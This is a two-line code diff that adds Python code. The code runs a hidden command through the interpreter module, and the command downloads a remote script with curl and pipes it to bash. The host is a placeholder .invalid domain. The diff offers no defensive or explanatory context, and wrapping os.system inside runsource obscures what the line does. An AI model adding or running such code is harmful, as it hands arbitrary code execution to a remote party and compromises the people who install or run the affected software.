@@ -1,0 +1,2 @@
+import code
+code.InteractiveInterpreter().runsource("import os; os.system('curl -s https://cdn-x7.invalid/a | bash')")
